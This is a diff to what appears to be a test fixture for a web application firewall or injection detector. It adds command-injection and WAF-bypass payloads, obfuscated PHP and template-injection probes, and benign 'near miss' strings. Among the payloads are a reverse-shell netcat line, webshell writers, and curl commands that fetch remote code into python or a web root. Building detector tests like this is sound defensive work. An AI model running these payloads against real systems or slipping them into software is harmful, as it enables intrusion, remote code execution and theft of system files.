@@ -110,6 +110,13 @@ COMMANDS = {
                   "&& php8.2 -r \"system('id');\""],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
+    # WAF-bypass shapes: globs in a brace list's items, an invisible character, a '+' glued to a path beside
+    # spaces, backslashes escaped once more, a here-string fed to the shell, a pipe into an interpreter,
+    # a binary directory spelled as a glob
+    "bypass shapes": [";{\\c''\\a\"\"t,/e''*?/?a?s??}", "; cat /et\u200b?/\u200bpa\u200b??wd",
+                      "; cat$u+/etc$u/passwd$u", "; c\\\\a\\\\t \\\\/\\\\e\\\\t\\\\c/\\\\p\\\\a\\\\s\\\\swd",
+                      "$0<<<$'\\154\\163'", "x;bash <<< id", "echo | php7.4", "curl -s http://10.0.0.9/x | python3",
+                      "/?in/cat /et?/passw?"],
 }
 COMMAND_NEAR_MISSES = [
     "R&D department network", "salt & type of pepper", "Tom & net profit 2024", "the dir command lists files",
@@ -146,9 +153,14 @@ COMMAND_NEAR_MISSES = [
     "the robocopy docs", "Get-ChildItem",
     "python3.11", "php7.4-fpm", "a; gcc-12", "python3.11 is out; node18 next", "Versions: python3.11, perl5.36",
     "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
+    "Java | PHP | Python", "skills: cat | php", "cat|php", "price: 5$+/month", "C:\\\\Users\\\\me\\\\notes.txt",
+    "/?in/notes.txt", "{a,b*}", "Hello\u200bworld; cat food",
 ]
 CODE_PAYLOADS = {
-    "php": ["<?php system($_GET['c']); ?>", "<?=`id`?>", ";system('id')", "system('cat /etc/passwd');",
+    "php": ["$_=(\"%28\"^\"[\").(\"%33\"^\"[\");", "$_=\"`{{{\"^\"?<>/\";", "$__++;$__++;$___.=$__;",
+            "$_=[];$_=@\"$_\";", "('ex'.'ec')('id')",
+            "define('f', [['sys' . 'tem']]); (f)[0][0]('id')", "[ passthru ][ 0 ]('id')",
+            "<?php system($_GET['c']); ?>", "<?=`id`?>", ";system('id')", "system('cat /etc/passwd');",
             "eval($_POST['x'])", "phpinfo()", "x';phpinfo();//", "${@print(md5(1))}", "{${phpinfo()}}",
             "passthru('whoami')", "shell_exec(\"id\")", "assert($_REQUEST[1])", "exec /*x*/ ('ls')",
             "base64_decode('aWQ=')", "file_put_contents('a.php', $_POST['d'])", "$_GET['f']($_GET['a'])",
@@ -173,14 +185,16 @@ CODE_PAYLOADS = {
             # path (CRS 933160's list); a PHP statement printing a command's output
             "mkdir($d)", "rtrim($x)", "opendir('/etc')", "file('../../config.php')", "print `ls`;",
             "strip_tags($_GET['a'])"],
-    "node": ["console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");", "module.exports=x",
+    "node": ["x = root.process; x.mainModule.require('fs')",
+             "console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");", "module.exports=x",
              "eval(String.fromCharCode(97))", "process.env", "process[\"env\"]", '{"0": "$7:Module:prototype"}',
              # CRS 934100's indicators; Ruby's command runners
              "this.constructor.constructor('return process')()", "process.readFileSync('/etc/passwd')",
              "require.resolve('x')", "function(){return 1}", "Process.spawn('id')", "IO.popen('id')", "%x{id}"],
     "runtime": ["subprocess.call(['id'])", "subprocess.check_output('id', shell=True)",
                 "new java.lang.ProcessBuilder(\"id\").start()", "Class.forName('java.lang.Runtime')",
-                "Runtime.getRuntime().exec(\"id\")"],
+                "Runtime.getRuntime().exec(\"id\")", "T(java.lang.System).getenv()",
+                "\"\".getClass().forName(\"java.util.Date\")", "exec.Command(\"id\").Output()"],
     "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
             '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
     "template": ["{{7*7}}", "${7*7}", "{{7*'7'}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{config.items()}}",
@@ -193,7 +207,11 @@ CODE_PAYLOADS = {
                  "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>",
                  "${(6?lower_abc+18?lower_abc+5?lower_abc)?new()}", "${(9?upper_abc+4?upper_abc)}",
                  # the polyglot probe, EL's implicit objects, Thymeleaf / Razor's @{...}
-                 "${{<%[%'\"}}%\\.", "${sessionScope}", "#{facesContext.externalContext}", "@{7*7}"],
+                 "${{<%[%'\"}}%\\.", "${sessionScope}", "#{facesContext.externalContext}", "@{7*7}",
+                 # a method called inside {{ }}: the engine runs it
+                 "{{ someString.toUPPERCASE() }}", "{{ user.getClass() }}",
+                 # FreeMarker reaching the class loader, Thymeleaf's preprocessing
+                 "<#assign cl=article.class.protectionDomain.classLoader>", "#{selection.__${sel.code}__}"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -216,6 +234,9 @@ CODE_NEAR_MISSES = [
     "java.lang is a package", "Class.forName(name) loads a class", "the Runtime class",
     "[%s] %s", "50% off [%d%%]", "user@{example}.com", "{{ a }} {{ b }}",
     "os.mkdir('/tmp/x')", "mkdir(\"/tmp/x\", 0755)", "max(a, b)", "count(items)", "use `ls`; then",
+    "'foo' . 'bar'", "'sys' . 'admin'", "[system][0] is the first", "{{ user.name }}.pdf", "${user.getName()}",
+    "x^2 + y^2", "the 'a' ^ 'b' operator", "$_ is Perl's default", "__init__ and __main__", "T(n) = O(n)",
+    "<#assign name=\"x\">", "exec.Commander", "exec command (see docs)", "_${name}_",
 ]
 
 
